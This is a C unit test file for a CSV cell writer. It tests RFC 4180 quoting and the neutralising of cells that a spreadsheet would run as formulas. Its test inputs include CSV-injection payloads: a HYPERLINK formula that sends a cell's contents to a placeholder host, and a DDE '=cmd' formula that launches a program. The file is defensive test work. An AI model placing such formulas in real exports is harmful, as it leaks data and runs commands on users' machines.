/* SPDX-License-Identifier: Apache-2.0 */
/* Unit tests for csv.c: RFC 4180 quoting, and cells a spreadsheet would run
 * as formulas shown as text instead (OWASP CSV injection). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include "csv.h"

#include <event2/buffer.h>
#include <stdlib.h>
#include <string.h>

/* The cell as csv_cell writes it. */
static void assert_cell(const char *in, const char *want)
{
    struct evbuffer *out = evbuffer_new();
    assert_non_null(out);
    csv_cell(out, in);
    size_t len = evbuffer_get_length(out);
    char *got = malloc(len + 1);
    assert_non_null(got);
    evbuffer_remove(out, got, len);
    got[len] = '\0';
    if (strcmp(got, want) != 0)
        fail_msg("csv_cell(\"%s\") wrote [%s], want [%s]", in, got, want);
    free(got);
    evbuffer_free(out);
}

static void test_plain_cells_as_they_are(void **state)
{
    assert_cell("", "");
    assert_cell("Perhekahvila", "Perhekahvila");
    assert_cell("Isä-lapsi-kahvila", "Isä-lapsi-kahvila"); /* a hyphen inside is fine */
    assert_cell("total", "total");
    assert_cell("5e0d8f2a-1b4c-4d7e-9f00-123456789abc", "5e0d8f2a-1b4c-4d7e-9f00-123456789abc");
    assert_cell("a=b", "a=b");
    assert_cell("'=already", "'=already");
}

static void test_rfc4180_quoting(void **state)
{
    assert_cell("Kahvila, Tampere", "\"Kahvila, Tampere\"");
    assert_cell("Sanoi \"hei\"", "\"Sanoi \"\"hei\"\"\"");
    assert_cell("\"", "\"\"\"\"");
    assert_cell("rivi\nrivi", "\"rivi\nrivi\"");
    assert_cell("rivi\r\nrivi", "\"rivi\r\nrivi\"");
}

static void test_formulas_shown_as_text(void **state)
{
    assert_cell("=1+2", "\"'=1+2\"");
    assert_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"Klikkaa\")",
        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Klikkaa\"\")\"");
    assert_cell("+358 40 123", "\"'+358 40 123\"");
    assert_cell("-2+3", "\"'-2+3\"");
    assert_cell("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
    assert_cell("\t=1", "\"'\t=1\"");
    assert_cell("\r=1", "\"'\r=1\"");
    assert_cell("\n=1", "\"'\n=1\"");
    assert_cell("  =cmd|' /C calc'!A0", "\"'  =cmd|' /C calc'!A0\"");
    assert_cell("=", "\"'=\"");
}

static void test_is_formula(void **state)
{
    static const char *const formulas[] = { "=", "+", "-", "@", "\t", "\r", "\n", " =x", "   @x", "-1" };
    static const char *const texts[] = { "", " ", "x=1", "Kahvila", "'=1", "1-2", "(=)", "é=" };
    for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++) {
        if (!csv_is_formula(formulas[i]))
            fail_msg("\"%s\" should count as a formula", formulas[i]);
    }
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        if (csv_is_formula(texts[i]))
            fail_msg("\"%s\" is not a formula", texts[i]);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_cells_as_they_are),
        cmocka_unit_test(test_rfc4180_quoting),
        cmocka_unit_test(test_formulas_shown_as_text),
        cmocka_unit_test(test_is_formula),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
